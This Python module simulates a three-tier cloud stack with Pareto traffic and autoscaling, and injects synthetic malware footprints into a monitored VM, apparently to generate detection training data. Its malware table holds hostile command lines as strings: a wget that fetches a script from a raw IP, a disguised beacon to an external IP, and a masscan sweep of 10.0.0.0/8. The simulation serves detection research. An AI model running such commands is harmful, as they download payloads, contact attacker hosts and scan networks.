"""Deterministic three-tier cloud simulation with ON/OFF Pareto traffic.

One experiment drives a web tier, an app tier and a single database VM with
bursty traffic, scales the web/app tiers on average CPU, and records the
per-process metrics of one monitored app VM every sample tick. A single
malware profile is injected into that VM somewhere inside the injection
window and becomes visible in its process table from the malicious phase on.

Random streams are split per concern (stack dynamics, benign process noise,
malware), so a zero-intensity malware leaves the benign stream untouched.
"""

from __future__ import annotations

import enum
from dataclasses import asdict, dataclass, field, replace
from typing import Iterator

import numpy as np

from .domain import (
    DEFAULT_SCHEMA,
    DomainError,
    ExperimentTimeline,
    FeatureSchema,
    VmSnapshot,
    label_for_time,
)


class ConfigError(ValueError):
    pass


# ---------------------------------------------------------------------------
# traffic


@dataclass(frozen=True)
class TrafficModel:
    alpha_on: float = 1.5
    alpha_off: float = 1.5
    xm_on: float = 20.0
    xm_off: float = 20.0
    lambda_on: float = 120.0

    def __post_init__(self):
        if not (self.alpha_on > 1 and self.alpha_off > 1):
            raise ConfigError("Pareto shapes must exceed 1 for a finite mean")
        if not (self.xm_on > 0 and self.xm_off > 0):
            raise ConfigError("Pareto minimum period lengths must be positive")
        if not self.lambda_on > 0:
            raise ConfigError("lambda_on must be positive")


@dataclass
class TrafficState:
    on: bool
    remaining_s: float
    on_time_s: float = 0.0
    total_time_s: float = 0.0


def pareto_sample(shape: float, xm: float, rng: np.random.Generator | None = None, u: float | None = None) -> float:
    """Inverse-CDF Pareto draw ``xm * U**(-1/shape)`` with ``U`` in (0, 1]."""
    if not shape > 1 or not xm > 0:
        raise DomainError(f"invalid Pareto parameters shape={shape}, xm={xm}")
    if u is None:
        u = 1.0 - rng.random()
    if not 0 < u <= 1:
        raise DomainError(f"uniform draw {u} outside (0, 1]")
    return xm * u ** (-1.0 / shape)


def pareto_samples(shape: float, xm: float, n: int, rng: np.random.Generator) -> np.ndarray:
    if not shape > 1 or not xm > 0:
        raise DomainError(f"invalid Pareto parameters shape={shape}, xm={xm}")
    u = 1.0 - rng.random(n)
    return xm * u ** (-1.0 / shape)


def initial_traffic_state(tm: TrafficModel, rng: np.random.Generator) -> TrafficState:
    on = bool(rng.random() < 0.5)
    shape, xm = (tm.alpha_on, tm.xm_on) if on else (tm.alpha_off, tm.xm_off)
    return TrafficState(on=on, remaining_s=pareto_sample(shape, xm, rng))


def traffic_tick(tm: TrafficModel, state: TrafficState, rng: np.random.Generator, interval_s: float = 10.0) -> int:
    """Advance ``state`` by one tick and return the number of requests issued.

    Periods may end mid-tick; only the ON share of the tick emits requests,
    Poisson with mean ``lambda_on * on_seconds``.
    """
    left = float(interval_s)
    on_s = 0.0
    while left > 0:
        step = min(state.remaining_s, left)
        if state.on:
            on_s += step
        state.remaining_s -= step
        left -= step
        if state.remaining_s <= 0:
            state.on = not state.on
            shape, xm = (tm.alpha_on, tm.xm_on) if state.on else (tm.alpha_off, tm.xm_off)
            state.remaining_s = pareto_sample(shape, xm, rng)
    state.on_time_s += on_s
    state.total_time_s += interval_s
    if on_s == 0.0:
        return 0
    return int(rng.poisson(tm.lambda_on * on_s))


# ---------------------------------------------------------------------------
# autoscaling


class ScaleAction(enum.IntEnum):
    SCALE_DOWN = -1
    HOLD = 0
    SCALE_UP = 1


@dataclass(frozen=True)
class AutoscalePolicy:
    cpu_high: float = 0.70
    cpu_low: float = 0.40
    min_vms: int = 2
    max_vms: int = 10
    cooldown_ticks: int = 3

    def __post_init__(self):
        if not 0 < self.cpu_low < self.cpu_high < 1:
            raise ConfigError("need 0 < cpu_low < cpu_high < 1")
        if not 1 <= self.min_vms <= self.max_vms:
            raise ConfigError("need 1 <= min_vms <= max_vms")
        if self.cooldown_ticks < 0:
            raise ConfigError("cooldown_ticks must be non-negative")


def autoscale_step(
    avg_cpu: float, size: int, policy: AutoscalePolicy, ticks_since_action: int | None = None
) -> ScaleAction:
    ready = ticks_since_action is None or ticks_since_action >= policy.cooldown_ticks
    if not ready:
        return ScaleAction.HOLD
    if avg_cpu > policy.cpu_high and size < policy.max_vms:
        return ScaleAction.SCALE_UP
    if avg_cpu < policy.cpu_low and size > policy.min_vms:
        return ScaleAction.SCALE_DOWN
    return ScaleAction.HOLD


# ---------------------------------------------------------------------------
# process catalog
#
# Per-instance metric model: value = (base + slope * load) * vm_factor * noise,
# load being the VM's CPU utilisation in [0, 1]. Columns follow DEFAULT_FEATURES.

MB = 1024.0 * 1024.0


@dataclass(frozen=True)
class ProcSpec:
    name: str
    cmdline: str
    base: tuple[float, ...]
    slope: tuple[float, ...] = (0.0,) * 10
    instances: tuple[int, int] = (1, 1)
    presence: float = 1.0  # chance the process exists on a given VM
    transient: float = 0.0  # per-tick appearance chance; 0 = long-lived

    @property
    def key(self):
        return (self.name, self.cmdline)


def _v(cpu=0.0, sys=0.0, rss=0.0, virt=0.0, rb=0.0, wb=0.0, rops=0.0, wops=0.0, thr=0.0, fds=0.0):
    return (cpu, sys, rss * MB, virt * MB, rb * 1024, wb * 1024, rops, wops, thr, fds)


def _kthread(name, cpu=0.001, wb=0.0, wops=0.0):
    return ProcSpec(name, "", _v(cpu=cpu, sys=cpu, wb=wb, wops=wops, thr=1))


GUNICORN_WORKER = ("gunicorn", "/usr/bin/python3 /usr/local/bin/gunicorn app.wsgi:application --worker-class sync")

APP_CATALOG: tuple[ProcSpec, ...] = (
    ProcSpec("systemd", "/sbin/init", _v(0.002, 0.003, 9, 160, 2, 1, 0.2, 0.1, 1, 80)),
    _kthread("kthreadd"),
    _kthread("ksoftirqd/0", 0.003),
    _kthread("ksoftirqd/1", 0.003),
    _kthread("kworker/0:1", 0.004, 4, 1),
    _kthread("kworker/1:2", 0.004, 4, 1),
    _kthread("rcu_sched", 0.002),
    _kthread("migration/0"),
    _kthread("migration/1"),
    _kthread("jbd2/vda1-8", 0.001, 24, 3),
    ProcSpec("systemd-journal", "/lib/systemd/systemd-journald", _v(0.003, 0.002, 28, 90, 0, 12, 0, 2, 1, 30), _v(0.01, 0.005, 4, 0, 0, 60, 0, 6)),
    ProcSpec("systemd-udevd", "/lib/systemd/systemd-udevd", _v(0.0005, 0.0005, 6, 22, thr=1, fds=14)),
    ProcSpec("systemd-logind", "/lib/systemd/systemd-logind", _v(0.0005, 0.0005, 7, 17, thr=1, fds=22)),
    ProcSpec("systemd-network", "/lib/systemd/systemd-networkd", _v(0.001, 0.001, 8, 24, thr=1, fds=21)),
    ProcSpec("systemd-resolve", "/lib/systemd/systemd-resolved", _v(0.001, 0.001, 12, 24, thr=1, fds=19), _v(0.004, 0.003)),
    ProcSpec("dbus-daemon", "@dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation", _v(0.0005, 0.0005, 5, 8, thr=1, fds=24)),
    ProcSpec("cron", "/usr/sbin/cron -f", _v(0.0002, 0.0002, 3, 8, thr=1, fds=7)),
    ProcSpec("rsyslogd", "/usr/sbin/rsyslogd -n -iNONE", _v(0.002, 0.002, 5, 220, 0, 6, 0, 1.5, 4, 11), _v(0.006, 0.004, 1, 0, 0, 30, 0, 5)),
    ProcSpec("sshd", "/usr/sbin/sshd -D", _v(0.0003, 0.0003, 7, 12, thr=1, fds=5)),
    ProcSpec("agetty", "/sbin/agetty -o -p -- \\u --noclear tty1 linux", _v(0.0, 0.0, 2, 6, thr=1, fds=5)),
    ProcSpec("chronyd", "/usr/sbin/chronyd -F 1", _v(0.0005, 0.0005, 3, 10, thr=1, fds=6)),
    ProcSpec("gunicorn", "/usr/bin/python3 /usr/local/bin/gunicorn app.wsgi:application --workers 4 --bind 0.0.0.0:8000",
             _v(0.004, 0.002, 38, 110, 0, 1, 0, 0.5, 1, 12), _v(0.01, 0.004, 2)),
    ProcSpec(*GUNICORN_WORKER, _v(0.01, 0.004, 62, 180, 8, 4, 2, 1, 1, 16),
             _v(0.30, 0.06, 40, 30, 300, 90, 40, 12, 0, 22), instances=(2, 8)),
    ProcSpec("memcached", "/usr/bin/memcached -m 64 -p 11211 -u memcache -l 127.0.0.1", _v(0.002, 0.002, 14, 330, thr=10, fds=20),
             _v(0.05, 0.04, 30, 0, 0, 0, 0, 0, 0, 40)),
    ProcSpec("node_exporter", "/usr/local/bin/node_exporter --collector.systemd", _v(0.003, 0.002, 18, 720, 20, 0, 5, 0, 7, 9)),
    ProcSpec("ceilometer-poll", "ceilometer-polling: AgentManager worker(0)", _v(0.004, 0.002, 72, 390, 10, 2, 3, 0.5, 3, 14), _v(0.006, 0.002)),
    ProcSpec("python3", "/usr/bin/python3 /opt/procmon/collector.py --interval 10", _v(0.02, 0.015, 34, 160, 150, 12, 30, 2, 2, 9)),
    ProcSpec("mysqld-client", "/usr/bin/python3 /opt/app/dbpool.py --pool 16", _v(0.002, 0.002, 22, 140, 0, 0, 0, 0, 3, 20), _v(0.04, 0.03, 8, 0, 0, 0, 0, 0, 0, 16)),
    ProcSpec("snapd", "/usr/lib/snapd/snapd", _v(0.001, 0.001, 30, 1500, thr=12, fds=18)),
    ProcSpec("polkitd", "/usr/lib/policykit-1/polkitd --no-debug", _v(0.0002, 0.0002, 8, 230, thr=3, fds=12)),
    ProcSpec("multipathd", "/sbin/multipathd -d -s", _v(0.001, 0.001, 17, 280, thr=7, fds=14)),
    ProcSpec("irqbalance", "/usr/sbin/irqbalance --foreground", _v(0.0005, 0.0005, 4, 80, thr=2, fds=6)),
    ProcSpec("atd", "/usr/sbin/atd -f", _v(0.0, 0.0, 2, 4, thr=1, fds=4)),
    ProcSpec("unattended-upgr", "/usr/bin/python3 /usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal",
             _v(0.0, 0.0, 20, 105, thr=2, fds=6)),
)

# Short-lived and per-VM optional processes. Left out of the default catalog:
# each one shifts the key-sorted matrix rows of every later process, which
# misaligns rows between experiments. Append them to study that effect.
VARIABLE_PROCESSES: tuple[ProcSpec, ...] = (
    ProcSpec("fwupd", "/usr/libexec/fwupd/fwupd", _v(0.0005, 0.0005, 40, 320, thr=5, fds=16), presence=0.5),
    ProcSpec("sh", "/bin/sh -c command -v debian-sa1 > /dev/null && debian-sa1 1 1", _v(0.01, 0.01, 1, 3, 4, 2, 1, 1, 1, 4), transient=0.03),
    ProcSpec("sshd", "sshd: ubuntu [priv]", _v(0.002, 0.002, 8, 14, 0, 0, 0, 0, 1, 9), transient=0.02),
    ProcSpec("logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", _v(0.02, 0.02, 4, 12, 300, 280, 20, 18, 1, 6), transient=0.01),
)

INTEGER_FEATURES = ("thread_count", "open_fd_count")


# ---------------------------------------------------------------------------
# malware profiles


class MalwareCategory(str, enum.Enum):
    CPU_MINER = "CpuMiner"
    BEACON_BACKDOOR = "BeaconBackdoor"
    PORT_SCANNER = "PortScanner"
    RANSOM_IO = "RansomIo"
    TROJAN_DOWNLOADER = "TrojanDownloader"
    WORM = "Worm"
    PROCESS_INJECTOR = "ProcessInjector"


@dataclass(frozen=True)
class NewProcess:
    name: str
    cmdline: str
    copies: int = 1


@dataclass(frozen=True)
class InjectInto:
    name: str
    cmdline: str


# Full-intensity per-record footprint of each category, and where it lands.
MALWARE_TABLE: dict[MalwareCategory, tuple[tuple[float, ...], NewProcess | InjectInto]] = {
    MalwareCategory.CPU_MINER: (_v(0.97, 0.02, 240, 680, 0, 1, 0, 0.2, 3, 14), NewProcess("kdevtmpfsi", "/tmp/kdevtmpfsi")),
    MalwareCategory.BEACON_BACKDOOR: (_v(0.03, 0.02, 12, 110, 2, 4, 5, 8, 2, 24),
                                      NewProcess("rsync", "/tmp/.X11-unix/rsync -c 45.9.148.99:443")),
    MalwareCategory.PORT_SCANNER: (_v(0.35, 0.45, 60, 300, 0, 0, 0, 0, 4, 600),
                                   NewProcess("masscan", "./masscan 10.0.0.0/8 -p22,2375,6379 --rate 10000")),
    MalwareCategory.RANSOM_IO: (_v(0.6, 0.3, 90, 400, 40000, 40000, 1500, 1500, 6, 64),
                                NewProcess("kworkerds", "/var/tmp/kworkerds --encrypt /srv")),
    MalwareCategory.TROJAN_DOWNLOADER: (_v(0.15, 0.1, 30, 200, 100, 6000, 40, 300, 3, 30),
                                        NewProcess("wget", "wget -q -O /tmp/.x http://91.215.152.12/x.sh")),
    MalwareCategory.WORM: (_v(0.4, 0.1, 40, 250, 0, 100, 0, 20, 8, 250), NewProcess("sysupdate", "/etc/sysupdate", copies=3)),
    MalwareCategory.PROCESS_INJECTOR: (_v(0.8, 0.1, 200, 500, 0, 2000, 0, 100, 24, 300), InjectInto(*GUNICORN_WORKER)),
}


@dataclass(frozen=True)
class MalwareProfile:
    category: MalwareCategory
    intensity: float = 1.0
    spawn: NewProcess | InjectInto | None = None

    def __post_init__(self):
        object.__setattr__(self, "category", MalwareCategory(self.category))
        if not 0.0 <= self.intensity <= 1.0:
            raise ConfigError(f"intensity {self.intensity} outside [0, 1]")
        if self.spawn is None:
            object.__setattr__(self, "spawn", MALWARE_TABLE[self.category][1])

    @property
    def footprint(self) -> np.ndarray:
        return np.asarray(MALWARE_TABLE[self.category][0], dtype=np.float64)

    def to_dict(self) -> dict:
        return {"category": self.category.value, "intensity": self.intensity}


CATEGORIES = tuple(MalwareCategory)


# ---------------------------------------------------------------------------
# stack


@dataclass
class Vm:
    vm_id: int
    tier: str
    cpu: float = 0.0
    infected: bool = False


@dataclass
class Tier:
    name: str
    vms: list[Vm]
    since_action: int | None = None

    @property
    def avg_cpu(self) -> float:
        return float(np.mean([vm.cpu for vm in self.vms]))


# CPU-seconds per request on each tier, and idle utilisation.
TIER_COST = {"web": 0.02, "app": 0.045, "db": 0.008}
IDLE_CPU = 0.04


@dataclass
class Population:
    """Long-lived process table of the monitored VM, with per-VM factors."""

    specs: list[ProcSpec]
    factors: np.ndarray  # (n_specs, F)


@dataclass
class StackState:
    web: Tier
    app: Tier
    db: Tier
    traffic: TrafficState
    rng: np.random.Generator
    proc_rng: np.random.Generator
    mal_rng: np.random.Generator
    monitored: Vm
    population: Population
    next_vm_id: int
    tick: int = 0
    profile: MalwareProfile | None = None
    malware_active: bool = False
    scale_log: list = field(default_factory=list)

    def tiers(self):
        return (self.web, self.app, self.db)


@dataclass(frozen=True)
class SimConfig:
    timeline: ExperimentTimeline = ExperimentTimeline()
    traffic: TrafficModel = TrafficModel()
    policy: AutoscalePolicy = AutoscalePolicy()
    profile: MalwareProfile | None = MalwareProfile(MalwareCategory.CPU_MINER)
    schema: FeatureSchema = DEFAULT_SCHEMA
    cores: int = 2
    noise_sigma: float = 0.08
    catalog: tuple[ProcSpec, ...] = APP_CATALOG

    def __post_init__(self):
        if self.schema.names != DEFAULT_SCHEMA.names:
            raise ConfigError("the process catalog is defined on the default feature schema only")
        if self.cores < 1 or self.noise_sigma < 0:
            raise ConfigError("cores must be >= 1 and noise_sigma >= 0")

    def to_dict(self) -> dict:
        tl = asdict(self.timeline)
        tl.pop("injection_t_s")
        return {
            "timeline": tl,
            "traffic": asdict(self.traffic),
            "policy": asdict(self.policy),
            "profile": None if self.profile is None else self.profile.to_dict(),
            "cores": self.cores,
            "noise_sigma": self.noise_sigma,
        }

    @classmethod
    def from_dict(cls, d: dict) -> "SimConfig":
        known = {"timeline", "traffic", "policy", "profile", "cores", "noise_sigma"}
        unknown = set(d) - known
        if unknown:
            raise ConfigError(f"unknown config keys: {sorted(unknown)}")
        try:
            kw = {}
            if "timeline" in d:
                kw["timeline"] = ExperimentTimeline(**d["timeline"])
            if "traffic" in d:
                kw["traffic"] = TrafficModel(**d["traffic"])
            if "policy" in d:
                kw["policy"] = AutoscalePolicy(**d["policy"])
            if "profile" in d:
                p = d["profile"]
                kw["profile"] = None if p is None else MalwareProfile(p["category"], float(p.get("intensity", 1.0)))
            for k in ("cores", "noise_sigma"):
                if k in d:
                    kw[k] = d[k]
            return cls(**kw)
        except (TypeError, KeyError, ValueError) as exc:
            raise ConfigError(str(exc)) from exc


def _draw_population(catalog, rng: np.random.Generator, n_features: int) -> Population:
    specs = [s for s in catalog if s.presence >= 1.0 or rng.random() < s.presence]
    factors = rng.uniform(0.85, 1.15, size=(len(specs), n_features))
    return Population(specs, factors)


def new_stack(config: SimConfig, seed: int) -> StackState:
    ss = np.random.SeedSequence(seed)
    stack_ss, proc_ss, mal_ss = ss.spawn(3)
    rng = np.random.default_rng(stack_ss)
    proc_rng = np.random.default_rng(proc_ss)
    mal_rng = np.random.default_rng(mal_ss)
    pol = config.policy
    next_id = 0

    def boot(tier, n):
        nonlocal next_id
        vms = []
        for _ in range(n):
            vms.append(Vm(next_id, tier, IDLE_CPU))
            next_id += 1
        return vms

    web = Tier("web", boot("web", pol.min_vms))
    app = Tier("app", boot("app", pol.min_vms))
    db = Tier("db", boot("db", 1))
    # initial VMs are never removed (scale-down drops the newest), so the
    # monitored server lives for the whole experiment
    monitored = app.vms[int(rng.integers(len(app.vms)))]
    population = _draw_population(config.catalog, proc_rng, config.schema.count)
    traffic = initial_traffic_state(config.traffic, rng)
    return StackState(web, app, db, traffic, rng, proc_rng, mal_rng, monitored, population, next_id)


def _update_cpu(stack: StackState, requests: int, config: SimConfig) -> None:
    rps = requests / config.timeline.sample_interval_s
    for tier in stack.tiers():
        share = rps / len(tier.vms)
        for vm in tier.vms:
            load = IDLE_CPU + share * TIER_COST[tier.name] / config.cores
            vm.cpu = float(np.clip(load + stack.rng.normal(0.0, 0.02), 0.0, 1.0))


def _autoscale(stack: StackState, config: SimConfig) -> None:
    for tier in (stack.web, stack.app):
        cpu = tier.avg_cpu
        action = autoscale_step(cpu, len(tier.vms), config.policy, tier.since_action)
        if action is ScaleAction.SCALE_UP:
            tier.vms.append(Vm(stack.next_vm_id, tier.name, IDLE_CPU))
            stack.next_vm_id += 1
        elif action is ScaleAction.SCALE_DOWN:
            tier.vms.pop()
        if action is not ScaleAction.HOLD:
            tier.since_action = 0
            stack.scale_log.append((stack.tick, tier.name, cpu, int(action), len(tier.vms)))
        elif tier.since_action is not None:
            tier.since_action += 1


def inject_malware(stack: StackState, profile: MalwareProfile, tl: ExperimentTimeline, rng=None) -> None:
    """Mark the monitored app VM infected; its footprint shows from ``tl.malicious_start_s`` on."""
    if not stack.app.vms:
        raise RuntimeError("cannot inject into an empty app tier")
    if stack.monitored not in stack.app.vms:
        raise RuntimeError("monitored VM is not part of the app tier")
    stack.monitored.infected = True
    stack.profile = profile


def _benign_records(stack: StackState, config: SimConfig, t: float):
    rng = stack.proc_rng
    pop = stack.population
    load = stack.monitored.cpu
    keys, rows = [], []
    n_feat = config.schema.count
    for spec, factor in zip(pop.specs, pop.factors):
        if spec.transient > 0 and not rng.random() < spec.transient:
            continue
        lo, hi = spec.instances
        n = lo if hi == lo else int(round(lo + (hi - lo) * load))
        base = np.asarray(spec.base) + np.asarray(spec.slope) * load
        noise = np.exp(rng.normal(0.0, config.noise_sigma, size=(n, n_feat)))
        vals = base * factor * noise
        keys.extend([spec.key] * n)
        rows.append(vals)
    values = np.vstack(rows) if rows else np.zeros((0, n_feat))
    _round_counts(values, config.schema)
    return keys, values


def _round_counts(values: np.ndarray, schema: FeatureSchema) -> None:
    for name in INTEGER_FEATURES:
        j = schema.index(name)
        values[:, j] = np.rint(values[:, j])


def _apply_malware(stack: StackState, config: SimConfig, keys: list, values: np.ndarray):
    profile = stack.profile
    if profile is None or profile.intensity == 0.0:
        return keys, values
    rng = stack.mal_rng
    n_feat = config.schema.count
    spawn = profile.spawn
    if isinstance(spawn, NewProcess):
        noise = np.exp(rng.normal(0.0, config.noise_sigma, size=(spawn.copies, n_feat)))
        extra = profile.footprint * profile.intensity * noise
        _round_counts(extra, config.schema)
        return keys + [(spawn.name, spawn.cmdline)] * spawn.copies, np.vstack([values, extra])
    target = (spawn.name, spawn.cmdline)
    try:
        i = keys.index(target)
    except ValueError:
        raise RuntimeError(f"injection target {target} not running on the monitored VM") from None
    noise = np.exp(rng.normal(0.0, config.noise_sigma, size=n_feat))
    delta = profile.footprint * profile.intensity * noise
    _round_counts(delta[None, :], config.schema)
    values = values.copy()
    values[i] += delta
    return keys, values


def step(stack: StackState, config: SimConfig) -> None:
    requests = traffic_tick(config.traffic, stack.traffic, stack.rng, config.timeline.sample_interval_s)
    _update_cpu(stack, requests, config)
    _autoscale(stack, config)
    stack.tick += 1


def run_experiment(config: SimConfig, seed: int, experiment_id: int = 0, trace: list | None = None) -> Iterator[VmSnapshot]:
    """Yield one labeled snapshot of the monitored app VM per tick.

    ``trace``, if given, receives per-tick ``(t, web_size, app_size, web_cpu, app_cpu)``
    and a final ``("injection", t)`` entry.
    """
    if not isinstance(config, SimConfig):
        raise ConfigError("config must be a SimConfig")
    stack = new_stack(config, seed)
    base_tl = config.timeline
    inj_t = float(stack.mal_rng.uniform(base_tl.benign_end_s, base_tl.malicious_start_s))
    tl = base_tl.with_injection(inj_t)
    injected = False
    for t in tl.tick_times():
        step(stack, config)
        if config.profile is not None and not injected and t >= tl.injection_t_s:
            inject_malware(stack, config.profile, tl, stack.mal_rng)
            injected = True
        if stack.profile is not None and t >= tl.malicious_start_s:
            stack.malware_active = True
        keys, values = _benign_records(stack, config, t)
        if stack.malware_active:
            keys, values = _apply_malware(stack, config, keys, values)
        if trace is not None:
            trace.append((t, len(stack.web.vms), len(stack.app.vms), stack.web.avg_cpu, stack.app.avg_cpu))
        yield VmSnapshot(experiment_id, stack.monitored.vm_id, float(t), tuple(keys), values, label_for_time(t, tl))
    if trace is not None:
        trace.append(("injection", inj_t))
        trace.append(("scale_log", list(stack.scale_log)))
    # the whole stack is dropped here, nothing carries over to the next experiment
    del stack


def injection_time(config: SimConfig, seed: int) -> float:
    """Injection time ``run_experiment`` will draw for ``seed`` (recorded in manifests)."""
    return float(new_stack(config, seed).mal_rng.uniform(config.timeline.benign_end_s, config.timeline.malicious_start_s))


def profile_for(index: int, intensity: float = 1.0, categories=CATEGORIES) -> MalwareProfile:
    """Profiles cycle through the categories in declaration order."""
    return MalwareProfile(categories[index % len(categories)], intensity)


def experiment_seed(base_seed: int, index: int) -> int:
    return int(np.random.SeedSequence([base_seed, index]).generate_state(1)[0])


def experiment_configs(base: SimConfig, n: int, seed: int, intensity: float | None = None):
    """``(experiment_id, seed, config)`` for a batch with cycled malware categories."""
    out = []
    for i in range(n):
        inten = intensity if intensity is not None else (base.profile.intensity if base.profile else 1.0)
        out.append((i, experiment_seed(seed, i), replace(base, profile=profile_for(i, inten))))
    return out
